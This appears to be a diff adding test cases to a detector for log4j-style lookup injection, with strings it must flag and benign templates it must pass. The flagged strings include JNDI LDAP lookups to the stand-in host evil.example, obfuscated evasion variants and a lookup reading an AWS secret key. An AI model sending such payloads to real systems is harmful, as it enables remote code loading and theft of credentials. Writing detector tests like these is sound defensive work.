@@ -27,6 +27,11 @@ describe('lookups of loggers', () => {
     '${jndi:ldap://127.0.0.1#evil.example/a}',
     '${sys:os.name}',
     '${main:x}',
+    '${env:AWS_SECRET_ACCESS_KEY}',
+    '${urlDecoder:%41}',
+    '${properties:a.properties::k}',
+    '${jnd${upper:ı}:ldap://evil.example/a}',
+    '$\\{jndi:ldap://evil.example/a}',
   ])('is seen in %j', (text) => {
     expect(surestScore(detectLookupInjection, text)).toBeGreaterThanOrEqual(REFUSED);
   });
@@ -39,6 +44,18 @@ describe('lookups of loggers', () => {
         { place: 'json' },
       ),
     ).toBe(98);
+  });
+
+  it.each([
+    '${env:HOME}',
+    '${date:YYYY-MM-DD}',
+    '${event:title}',
+    '${main:x}',
+    'fileName="logs/${date:MM}.log"',
+    'String "${sys:devices/virtual/dmi/id}"',
+    'jndi: the naming interface',
+  ])('may be a template of another program in JSON: %j', (text) => {
+    expect(surestScore(detectLookupInjection, text, { place: 'json' })).toBeLessThan(REFUSED);
   });
 
   it('is seen where it is cut off', () => {
